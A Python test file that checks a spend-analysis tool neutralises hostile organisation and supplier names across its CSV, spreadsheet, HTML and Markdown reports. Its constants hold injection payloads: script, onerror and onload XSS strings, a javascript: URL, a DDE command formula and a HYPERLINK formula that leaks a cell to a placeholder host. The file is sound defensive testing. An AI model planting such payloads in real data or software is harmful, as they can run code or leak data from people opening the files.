"""Every output of ``analyse --out`` and ``compare --out`` is inert, built from hostile names.

``fixtures/hostile_names.csv`` is a three-organisation export whose organisation, supplier,
service-area and expense-type cells are attacks: markup (``<script>``, ``<img onerror>``,
``"><svg onload>``, ``</style>``), a ``javascript:`` URL, a Markdown link, spreadsheet formulas
(``=HYPERLINK``, ``=cmd|…``, ``+1``, ``-1+2``, ``@SUM``), a leading tab and CR, a Jinja expression,
an RTL override, a 600-character name and emoji; one row has a formula for its amount and
transaction number, one an ``@`` date. ``fixtures/hostile_names_lookup.csv`` disagrees with the
export's SME flags, so conflicts.csv has rows. The markup payloads, if they ever ran, would set the
page title to PWNED or add a ``<pwned>`` element (the word is never spelled out in the data);
``test_browser.py`` loads the same reports in Chromium to prove it.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from markdown_it import MarkdownIt  # installed with rich, which renders Markdown with it

from tests.helpers import FIXTURES, invoke, parse

HOSTILE = FIXTURES / "hostile_names.csv"
HOSTILE_LOOKUP = FIXTURES / "hostile_names_lookup.csv"
# columns of money we format ourselves ("-150.00"); every other CSV column is text from somewhere
MONEY_COLUMNS = {"total_spend", "spend", "known_spend", "network_spend", "member_spend"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
ORG_SCRIPT = "<script>document.title='PW'+'NED'</script>"
ORG_SVG = "\"><svg onload=\"document.body.appendChild(document.createElement('pw'+'ned'))\">"
ORG_CMD = "=cmd|' /C calc'!A0"
SUP_SCRIPT = "<script>document.body.appendChild(document.createElement('pw'+'ned'))</script>"
SUP_IMG = "<img src=x onerror=\"document.title='PW'+'NED'\">"
SUP_HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
SUP_MD = "[click](javascript:alert(1)) | *bold* `code`"
SUP_STYLE = "</style><style>body{display:none}</style><h1>restyled</h1>"
SUP_RTL = "\u202eLTD EVIL\u202c Reversed"
SUP_LONG = "Very Long Name " * 40 + "Ltd"
SUP_EMOJI = "🦄 Unicorn Emoji Services 🚀"
SUPPLIERS = [
    SUP_SCRIPT,
    SUP_IMG,
    "javascript:alert(1)",
    ORG_SVG,
    SUP_HYPERLINK,
    ORG_CMD,
    "+1",
    "-1+2",
    "@SUM(A1)",
    "Tabbed Supplies Ltd",  # the leading tab and CR are trimmed on the way in
    "Carriage Return Ltd",
    SUP_STYLE,
    "{{ 7*7 }} Jinja Ltd",
    SUP_RTL,
    SUP_LONG,
    SUP_EMOJI,
    SUP_MD,
]
ANALYSE_CSVS = [
    "conflicts.csv",
    "findings.csv",
    "metrics.csv",
    "payees.csv",
    "rejected_rows.csv",
    "unmatched_suppliers.csv",
]


def _run(command: str, out: Path) -> Path:
    args = [str(HOSTILE), "--lookup", str(HOSTILE_LOOKUP), "--out", str(out), "-q"]
    result = invoke(command, *args)
    assert result.exit_code == 0, result.stderr
    return out


@pytest.fixture(scope="module")
def analysed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _run("analyse", tmp_path_factory.mktemp("analyse"))


@pytest.fixture(scope="module")
def compared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _run("compare", tmp_path_factory.mktemp("compare"))


@pytest.fixture(params=["analyse", "compare"])
def out(request: pytest.FixtureRequest) -> Path:
    fixture = "analysed" if request.param == "analyse" else "compared"
    path: Path = request.getfixturevalue(fixture)
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


# ---------------------------------------------------------------- CSV


def test_every_csv_cell_is_neutralised_or_our_own_money(out: Path) -> None:
    names = sorted(p.name for p in out.glob("*.csv"))
    expected = ANALYSE_CSVS + (["shared_suppliers.csv"] if out.name.startswith("compare") else [])
    assert names == sorted(expected)
    for name in names:
        rows = read_csv(out / name)
        assert rows, name
        for i, row in enumerate(rows, start=2):
            for column, value in row.items():
                if column in MONEY_COLUMNS:
                    assert re.fullmatch(r"-?\d+\.\d{2}", value), (name, i, column, value)
                else:
                    assert not value.startswith(FORMULA_START), (name, i, column, value)


def test_neutralised_text_keeps_every_character_after_the_apostrophe(out: Path) -> None:
    metrics = read_csv(out / "metrics.csv")
    orgs = {r["organisation"] for r in metrics}
    assert orgs == {ORG_SCRIPT, ORG_SVG, "'" + ORG_CMD, "(all)"}
    unmatched = [r["supplier"] for r in read_csv(out / "unmatched_suppliers.csv")]
    looked_up = {SUP_SCRIPT, SUP_IMG, "+1"}
    shown = ["'" + s if s.startswith(FORMULA_START) else s for s in SUPPLIERS if s not in looked_up]
    assert sorted(unmatched) == sorted(shown)
    (bad_amount, bad_date) = read_csv(out / "rejected_rows.csv")
    assert (bad_amount["organisation"], bad_amount["supplier_name"]) == (
        ORG_SCRIPT,
        "'" + SUP_HYPERLINK,
    )
    assert (bad_amount["amount"], bad_amount["transaction_id"]) == ("'=SUM(A1:A9)", "'=1+1")
    assert (bad_date["supplier_name"], bad_date["payment_date"]) == ("'@SUM(A1)", "'@now")
    findings = {(r["code"], r["value"]) for r in read_csv(out / "findings.csv")}
    assert {("type-error", "'=SUM(A1:A9)"), ("type-error", "'@now")} <= findings
    conflicts = {(r["supplier"], r["source"], r["value"]) for r in read_csv(out / "conflicts.csv")}
    assert ("'+1", "hostile_names_lookup.csv", "false") in conflicts
    # @SUM(A1)'s only "No" is on its rejected row, and rows not analysed do not vote
    assert not [c for c in conflicts if c[0] == "'@SUM(A1)"]
    assert (SUP_IMG, "export", "false") in conflicts


def test_shared_suppliers_csv_neutralises_suppliers_and_members(compared: Path) -> None:
    rows = read_csv(compared / "shared_suppliers.csv")
    by_supplier = {}
    for r in rows:
        by_supplier.setdefault(r["supplier"], set()).add(r["member"])
    assert by_supplier["'" + SUP_HYPERLINK] == {ORG_SCRIPT, "'" + ORG_CMD}
    assert by_supplier[SUP_SCRIPT] == {ORG_SCRIPT, ORG_SVG, "'" + ORG_CMD}
    assert by_supplier[SUP_LONG] == {ORG_SVG, "'" + ORG_CMD}


# ---------------------------------------------------------------- XLSX


def test_xlsx_keeps_every_text_as_text_never_a_formula(out: Path) -> None:
    wb = openpyxl.load_workbook(out / "report.xlsx")
    texts: dict[str, openpyxl.cell.cell.Cell] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type in ("s", "n", "b"), (ws.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    assert cell.quotePrefix is cell.value.startswith(FORMULA_START)
                    texts[cell.value] = cell
    for name in (ORG_SCRIPT, ORG_SVG, ORG_CMD, SUP_HYPERLINK, "+1", "-1+2", "@SUM(A1)", SUP_MD):
        assert name in texts, name
    assert texts[ORG_CMD].quotePrefix is True and texts["-1+2"].quotePrefix is True
    with zipfile.ZipFile(out / "report.xlsx") as z:
        parts = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert len(parts) == len(wb.worksheets)
        xml = {n: z.read(n).decode("utf-8") for n in parts}
        assert not any(n.startswith("xl/calcChain") or "externalLink" in n for n in z.namelist())
    assert all(re.search(r"<f[\s>/]", text) is None for text in xml.values())


# ---------------------------------------------------------------- HTML


def csp(html: str) -> dict[str, list[str]]:
    metas = [
        a
        for t, a in parse(html).tags
        if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"
    ]
    assert len(metas) == 1
    out: dict[str, list[str]] = {}
    for directive in metas[0]["content"].split(";"):
        name, *values = directive.split()
        out[name] = values
    return out


def test_html_has_no_active_content_from_the_data(out: Path) -> None:
    html = (out / "report.html").read_text(encoding="utf-8")
    p = parse(html)
    names = {t for t, _ in p.tags}
    for active in ("script", "img", "iframe", "object", "embed", "link", "base", "form"):
        assert active not in names, active
    assert "foreignobject" not in names
    assert [t for t, _ in p.tags].count("h1") == 1  # ours; the data's <h1> stayed text
    assert [t for t, _ in p.tags].count("style") == 1  # ours, in the head
    assert p.tags[[t for t, _ in p.tags].index("style") - 1][0] in ("meta", "title")
    for tag, attrs in p.tags:
        assert not any(k.startswith("on") for k in attrs), (tag, attrs)
        assert "src" not in attrs and "srcdoc" not in attrs and "action" not in attrs
        assert not any("javascript:" in v.lower() for v in attrs.values()), (tag, attrs)
        if "href" in attrs:
            assert re.fullmatch(r"#[a-z0-9-]+", attrs["href"]), attrs["href"]
    assert "restyled" not in "".join(p.styles) and "display:none" not in "".join(p.styles)
    text = "".join(p.text)
    for name in (ORG_SCRIPT, ORG_SVG, SUP_IMG, SUP_STYLE, SUP_RTL, SUP_EMOJI):
        assert name in text, name  # arrived as text, whole
    assert "{{ 7*7 }} Jinja Ltd" in text and "49 Jinja" not in text
    assert "PWNED" not in html.upper().replace("'PW'+'NED'", "")


def test_html_content_security_policy_is_strict(out: Path) -> None:
    html = (out / "report.html").read_text(encoding="utf-8")
    policy = csp(html)
    assert policy == {
        "default-src": ["'none'"],
        "style-src": ["'unsafe-inline'"],
        "img-src": ["data:"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
    }
    assert html.index("Content-Security-Policy") < html.index("<style")
    assert html.index("Content-Security-Policy") < html.index("<title")


# ---------------------------------------------------------------- Markdown


def test_markdown_renders_no_html_or_links_from_the_data(out: Path) -> None:
    md = (out / "report.md").read_text(encoding="utf-8")
    rendered = MarkdownIt("commonmark").enable("table").render(md)  # raw HTML allowed through
    tags = {t for t, _ in parse(rendered).tags}
    # our own markup only; "code" is At a glance's next-step command
    assert tags <= {
        "h1",
        "h2",
        "h3",
        "p",
        "em",
        "strong",
        "code",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }, tags
    assert "http://" not in md and "www." not in md  # no bare GitHub autolinks either
    text = "".join(parse(rendered).text)
    for name in (ORG_SCRIPT, ORG_SVG, ORG_CMD, SUP_MD, SUP_STYLE):
        assert name in text, name  # shown as the literal text
